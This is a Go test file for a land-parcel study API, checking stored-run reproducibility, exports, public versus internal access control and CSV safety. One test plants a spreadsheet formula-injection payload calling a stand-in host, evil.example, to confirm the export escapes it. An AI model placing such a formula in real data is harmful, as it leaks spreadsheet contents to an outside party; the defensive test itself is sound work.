package studyapi_test

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"landatlas/internal/study"

	"github.com/xuri/excelize/v2"
)

type runAnswer struct {
	ID          int64
	Audience    string
	Parcels     int
	DataChanged bool `json:"data_changed"`
	Results     struct {
		Supply struct {
			Total group
		}
		TakeUp struct {
			Total struct {
				MeanHa     float64  `json:"mean_net_ha_per_year"`
				ReachYears *float64 `json:"reach_years"`
			}
		} `json:"take_up"`
		Balance struct {
			Total struct {
				TrendBalanceHa float64 `json:"trend_balance_ha"`
			}
		}
		LargeSites struct {
			Sites []struct {
				MemberIDs []int64 `json:"member_ids"`
			}
		} `json:"large_sites"`
	}
}

var runParams = map[string]any{
	"title":  "Potenzialstudie Test",
	"as_of":  "2026-06-30",
	"demand": map[string]any{"target_year": 2038, "margin": 0.1},
}

// A run stores its figures: after the data changed it still reads the same, and so do its exports.
func TestStudyRunIsReproducible(t *testing.T) {
	a := newAPI(t)
	ctx := context.Background()
	if code, _ := a.do(http.MethodPost, "/api/v1/study/runs", "", runParams); code != http.StatusUnauthorized {
		t.Errorf("the public created a run: %d, want 401", code)
	}
	if code, _ := a.do(http.MethodPost, "/api/v1/study/runs", a.editor, runParams); code != http.StatusForbidden {
		t.Errorf("an editor created a run: %d, want 403", code)
	}
	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, runParams)
	if code != http.StatusCreated {
		t.Fatalf("create run: %d %s", code, body)
	}
	var created runAnswer
	if err := json.Unmarshal(body, &created); err != nil {
		t.Fatal(err)
	}
	check := func(r runAnswer, when string) {
		t.Helper()
		res := r.Results
		if r.Parcels != 10 || !near(res.Supply.Total.Reserve.NetHa, 34.65) || !near(res.TakeUp.Total.MeanHa, 1.9) ||
			res.TakeUp.Total.ReachYears == nil || *res.TakeUp.Total.ReachYears != 11.39 || !near(res.Balance.Total.TrendBalanceHa, 7.48) ||
			len(res.LargeSites.Sites) != 1 || len(res.LargeSites.Sites[0].MemberIDs) != 3 {
			t.Errorf("%s: %d parcels, reserve %g, mean %g, reach %v, balance %g, large sites %+v; want 10, 34.65, 1.9, 11.39, 7.48, A+B+C",
				when, r.Parcels, res.Supply.Total.Reserve.NetHa, res.TakeUp.Total.MeanHa, res.TakeUp.Total.ReachYears,
				res.Balance.Total.TrendBalanceHa, res.LargeSites.Sites)
		}
	}
	check(created, "created")

	// A is sold and B withdrawn: the data move on, the run does not.
	if _, err := a.db.Pool.Exec(ctx, `UPDATE parcels SET status = 'sold' WHERE id = $1`, a.fix.Parcels["A"]); err != nil {
		t.Fatal(err)
	}
	if _, err := a.db.Pool.Exec(ctx, `UPDATE parcels SET status = 'withdrawn' WHERE id = $1`, a.fix.Parcels["B"]); err != nil {
		t.Fatal(err)
	}
	var later runAnswer
	a.get("/api/v1/study/runs/"+itoa(created.ID), a.planner, &later)
	check(later, "after the data changed")
	if !later.DataChanged {
		t.Error("the run does not say that the data changed since")
	}

	supply := a.csvTable("/api/v1/study/runs/"+itoa(created.ID)+"/tables/supply.csv", a.planner)
	total := len(supply) - 1
	if column(supply, total, "district_label") != "Gesamt" || column(supply, total, "reserve_net_ha") != "34.65" ||
		column(supply, total, "marketable_net_ha") != "21.65" || column(supply, 1, "district") != "14713" || column(supply, 1, "net_ha") != "8.65" {
		t.Errorf("supply.csv = %v", supply)
	}
	reach := a.csvTable("/api/v1/study/runs/"+itoa(created.ID)+"/tables/reach.csv", a.planner)
	if last := len(reach) - 1; column(reach, last, "reach_years") != "11.39" || column(reach, last, "mean_net_ha_per_year") != "1.9" {
		t.Errorf("reach.csv = %v", reach)
	}
	parcels := a.csvTable("/api/v1/study/runs/"+itoa(created.ID)+"/tables/parcels.csv", a.planner)
	if len(parcels) != 11 || column(parcels, 1, "status") != "offered" || column(parcels, 1, "id") != itoa(a.fix.Parcels["A"]) {
		t.Errorf("parcels.csv has %d rows, first %v; want 10 parcels, A still offered as of the run", len(parcels)-1, parcels[1])
	}
	var fc struct{ Features []json.RawMessage }
	a.get("/api/v1/study/runs/"+itoa(created.ID)+"/parcels.geojson", a.planner, &fc)
	if len(fc.Features) != 10 {
		t.Errorf("parcels.geojson has %d features, want 10", len(fc.Features))
	}
	a.get("/api/v1/study/runs/"+itoa(created.ID)+"/large-sites.geojson", a.planner, &fc)
	if len(fc.Features) != 1 {
		t.Errorf("large-sites.geojson has %d features, want 1", len(fc.Features))
	}
	code, report := a.do(http.MethodGet, "/api/v1/study/runs/"+itoa(created.ID)+"/report.html", a.planner, nil)
	// One decimal as on the dashboard; the date as a day; the large site by its short name, on the
	// map too; the demand years named; the bookmarkable address of the report, not the API's.
	for _, want := range []string{"Potenzialstudie Test", "1,9 ha/Jahr", "11,4 Jahre", "© GeoBasis-DE / BKG", "<svg", "@page",
		"<dd>30.06.2026</dd>", ">G1</td>", ">G1</text>", "Bedarf 2026–2038", "/study/run/" + itoa(created.ID) + "/report",
		"größter zusammen&shy;hängender Teil brutto ha", "Bedarf nach Beschäftigung", "Standorte (alle)"} {
		if code != http.StatusOK || !strings.Contains(string(report), want) {
			t.Errorf("report (%d) lacks %q", code, want)
		}
	}
	for _, unwanted := range []string{"(as_of)", "cluster-", "/api/v1/", "Bedarf Beschäftigung ha"} {
		if strings.Contains(string(report), unwanted) {
			t.Errorf("report holds %q", unwanted)
		}
	}
}

func TestStudyRunExportsAGeoPackage(t *testing.T) {
	if _, err := exec.LookPath("ogrinfo"); err != nil {
		t.Fatal("ogrinfo (GDAL) is needed to read the GeoPackage back: install gdal-bin (make deps does)")
	}
	a := newAPI(t)
	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, runParams)
	if code != http.StatusCreated {
		t.Fatalf("create run: %d %s", code, body)
	}
	var run runAnswer
	if err := json.Unmarshal(body, &run); err != nil {
		t.Fatal(err)
	}
	code, gpkg := a.do(http.MethodGet, "/api/v1/study/runs/"+itoa(run.ID)+"/export.gpkg", a.planner, nil)
	if code != http.StatusOK {
		t.Fatalf("export.gpkg: %d %s", code, gpkg)
	}
	path := filepath.Join(t.TempDir(), "run.gpkg")
	if err := os.WriteFile(path, gpkg, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("ogrinfo", "-so", "-al", path).CombinedOutput()
	if err != nil {
		t.Fatalf("ogrinfo: %v %s", err, out)
	}
	for _, want := range []string{"Layer name: parcels", "Feature Count: 10", "Layer name: large_sites", "Feature Count: 1", "25832"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("GeoPackage lacks %q:\n%s", want, out)
		}
	}
}

// The public never counts an internal parcel: not in a public run, and it cannot read internal runs.
func TestPublicRunsCountPublicParcelsOnly(t *testing.T) {
	a := newAPI(t)
	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": "2026-06-30"}
	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
	if code != http.StatusCreated {
		t.Fatalf("create public run: %d %s", code, body)
	}
	var public runAnswer
	if err := json.Unmarshal(body, &public); err != nil {
		t.Fatal(err)
	}
	code, body = a.do(http.MethodPost, "/api/v1/study/runs", a.planner, runParams)
	if code != http.StatusCreated {
		t.Fatalf("create internal run: %d %s", code, body)
	}
	var internal runAnswer
	if err := json.Unmarshal(body, &internal); err != nil {
		t.Fatal(err)
	}
	var read runAnswer
	a.get("/api/v1/study/runs/"+itoa(public.ID), "", &read)
	if read.Parcels != 8 || !near(read.Results.Supply.Total.NetHa, 37.65) || !near(read.Results.TakeUp.Total.MeanHa, 1.3) ||
		len(read.Results.LargeSites.Sites[0].MemberIDs) != 2 {
		t.Errorf("public run: %d parcels, %g ha, mean take-up %g, large site %v; want 8, 37.65, 1.3, A+B",
			read.Parcels, read.Results.Supply.Total.NetHa, read.Results.TakeUp.Total.MeanHa, read.Results.LargeSites.Sites)
	}
	if code, _ := a.do(http.MethodGet, "/api/v1/study/runs/"+itoa(internal.ID), "", nil); code != http.StatusNotFound {
		t.Errorf("the public read an internal run: %d, want 404", code)
	}
	if code, _ := a.do(http.MethodGet, "/api/v1/study/runs/"+itoa(internal.ID)+"/tables/parcels.csv", "", nil); code != http.StatusNotFound {
		t.Errorf("the public exported an internal run's parcels: %d, want 404", code)
	}
	var list struct {
		Total int
		Runs  []struct{ ID int64 }
	}
	a.get("/api/v1/study/runs", "", &list)
	if list.Total != 1 || list.Runs[0].ID != public.ID {
		t.Errorf("the public lists %+v, want only the public run", list)
	}
	a.get("/api/v1/study/runs?limit=1", a.planner, &list)
	if list.Total != 2 || len(list.Runs) != 1 || list.Runs[0].ID != internal.ID {
		t.Errorf("a planner lists %+v, want 2 runs, the newest first, one per page", list)
	}
	parcels := a.csvTable("/api/v1/study/runs/"+itoa(public.ID)+"/tables/parcels.csv", "")
	for _, row := range parcels[1:] {
		if id := row[0]; id == itoa(a.fix.Parcels["C"]) || id == itoa(a.fix.Parcels["H"]) {
			t.Errorf("the public run's parcels list the internal parcel %s", id)
		}
	}
	if code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner,
		map[string]any{"title": "x", "audience": "public", "group_by": []string{"ownership"}}); code != http.StatusBadRequest {
		t.Errorf("a public run grouped by ownership: %d %s", code, body)
	}
}

// A stored public run shows the public only what is public now: a parcel set internal after the
// run leaves its JSON, tables, report and large-site unions, which are computed again without it.
func TestPublicRunHidesParcelsThatBecameInternal(t *testing.T) {
	a := newAPI(t)
	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": "2026-06-30",
		"search": map[string]any{"criteria": map[string]any{"min_net_ha": 0.1}}}
	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
	if code != http.StatusCreated {
		t.Fatalf("create public run: %d %s", code, body)
	}
	var run runAnswer
	if err := json.Unmarshal(body, &run); err != nil {
		t.Fatal(err)
	}
	runPath := "/api/v1/study/runs/" + itoa(run.ID)
	exports := []string{"", "/large-sites.geojson", "/tables/search.csv", "/tables/large_sites.csv", "/tables/parcels.csv", "/report.html", "/parcels.geojson",
		"/tables/search.xlsx", "/tables/large_sites.xlsx", "/tables/parcels.xlsx", "/tables.xlsx"}
	b := itoa(a.fix.Parcels["B"])
	memberIDs := regexp.MustCompile(`"member_ids":"([^"]* )?` + b + `( [^"]*)?"`)
	mentions := func(when string) map[string]bool {
		out := map[string]bool{}
		for _, e := range exports {
			code, body := a.do(http.MethodGet, runPath+e, "", nil)
			if code != http.StatusOK {
				t.Fatalf("%s: public GET %s: %d %s", when, e, code, body)
			}
			if strings.HasSuffix(e, ".xlsx") {
				out[e] = workbookMentions(t, body, b)
				continue
			}
			s := string(body)
			out[e] = strings.Contains(s, "Fläche B") || strings.Contains(s, "FIX-B") || strings.Contains(s, "["+b+",") ||
				strings.Contains(s, ","+b+"]") || strings.Contains(s, `"id":`+b+",") || memberIDs.MatchString(s)
		}
		return out
	}
	// The monitoring and the comparison are computed at read time; their lists of changed parcels
	// (all are new since 2000) must drop B with the run.
	comparisons := []string{"/api/v1/study/compare?from=2000-01-01&to=2026-06-30", "/api/v1/study/monitoring?as_of=2026-06-30&previous=2000-01-01"}
	changesShow := func(when string) map[string]bool {
		out := map[string]bool{}
		for _, path := range comparisons {
			var answer map[string]struct{ Changes []study.ParcelChange }
			a.get(path, "", &answer)
			for _, c := range answer {
				for _, ch := range c.Changes {
					out[path] = out[path] || slices.Contains(ch.IDs, a.fix.Parcels["B"])
				}
			}
		}
		return out
	}
	if shown := changesShow("before"); !shown[comparisons[0]] || !shown[comparisons[1]] {
		t.Fatalf("before B is internal, the public comparisons list it among changes %v: the test would prove nothing", shown)
	}
	before := mentions("before")
	for _, e := range []string{"", "/large-sites.geojson", "/tables/search.csv", "/tables/search.xlsx", "/tables/large_sites.xlsx", "/tables.xlsx"} {
		if !before[e] {
			t.Fatalf("before B is internal, public %s does not show it: the test would prove nothing", e)
		}
	}
	var read runAnswer
	a.get(runPath, "", &read)
	if len(read.Results.LargeSites.Sites) != 1 || len(read.Results.LargeSites.Sites[0].MemberIDs) != 2 {
		t.Fatalf("public run before: large sites %+v, want A+B", read.Results.LargeSites.Sites)
	}

	if _, err := a.db.Pool.Exec(context.Background(), `UPDATE parcels SET publication = 'internal' WHERE id = $1`, a.fix.Parcels["B"]); err != nil {
		t.Fatal(err)
	}
	for e, shown := range mentions("after") {
		if shown {
			t.Errorf("B is internal now, yet the public run's %q shows it", e)
		}
	}
	for path, shown := range changesShow("after") {
		if shown {
			t.Errorf("B is internal now, yet the public %s lists it among the changed parcels", path)
		}
	}
	a.get(runPath, "", &read)
	if read.Parcels != 7 {
		t.Errorf("public run after B became internal counts %d parcels, want 7", read.Parcels)
	}
	for _, s := range read.Results.LargeSites.Sites {
		for _, id := range s.MemberIDs {
			if id == a.fix.Parcels["B"] {
				t.Errorf("a large site of the public run still merges B: %+v", s)
			}
		}
	}
	var list struct{ Runs []struct{ Parcels int } }
	a.get("/api/v1/study/runs", "", &list)
	if len(list.Runs) != 1 || list.Runs[0].Parcels != 7 {
		t.Errorf("the public list of runs: %+v, want the run with 7 parcels", list.Runs)
	}
	var planner runAnswer
	a.get(runPath, a.planner, &planner)
	if planner.Parcels != 7 {
		t.Errorf("a planner reading the public run sees %d parcels, want the same 7 as the public", planner.Parcels)
	}
}

// A parcel named like a spreadsheet formula reaches the public run's CSV tables inert.
func TestRunTablesAreSafeInASpreadsheet(t *testing.T) {
	a := newAPI(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	if _, err := a.db.Pool.Exec(context.Background(), `UPDATE parcels SET name = $2 WHERE id = $1`, a.fix.Parcels["A"], formula); err != nil {
		t.Fatal(err)
	}
	params := map[string]any{"title": "öffentlich", "audience": "public", "as_of": time.Now().Format(time.DateOnly),
		"search": map[string]any{"criteria": map[string]any{"min_net_ha": 0.1}}}
	code, body := a.do(http.MethodPost, "/api/v1/study/runs", a.planner, params)
	if code != http.StatusCreated {
		t.Fatalf("create public run: %d %s", code, body)
	}
	var run runAnswer
	if err := json.Unmarshal(body, &run); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, table := range []string{"search", "parcels"} {
		for _, row := range a.csvTable("/api/v1/study/runs/"+itoa(run.ID)+"/tables/"+table+".csv", "") {
			for _, cell := range row {
				if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "@") {
					t.Errorf("%s.csv has the cell %q, which a spreadsheet runs as a formula", table, cell)
				}
				found = found || cell == "'"+formula
			}
		}
	}
	if !found {
		t.Error("the parcel's name is in no table, escaped as '=HYPERLINK(...)")
	}
}

// workbookMentions reads an XLSX back and reports whether any sheet shows parcel B: its name or
// external id in a cell, or its id in a column of parcel ids (a cell of ids separated by spaces).
func workbookMentions(t *testing.T, body []byte, id string) bool {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("read the workbook: %v", err)
	}
	defer f.Close()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatalf("read sheet %s: %v", name, err)
		}
		if len(rows) == 0 {
			continue
		}
		idColumn := map[int]bool{}
		for i, h := range rows[0] {
			idColumn[i] = strings.Contains(h, "ID") || strings.Contains(h, "Kennung") || strings.HasSuffix(h, "id") || strings.HasSuffix(h, "ids")
		}
		for _, row := range rows[1:] {
			for i, cell := range row {
				if strings.Contains(cell, "Fläche B") || strings.Contains(cell, "FIX-B") || (idColumn[i] && slices.Contains(strings.Fields(cell), id)) {
					return true
				}
			}
		}
	}
	return false
}
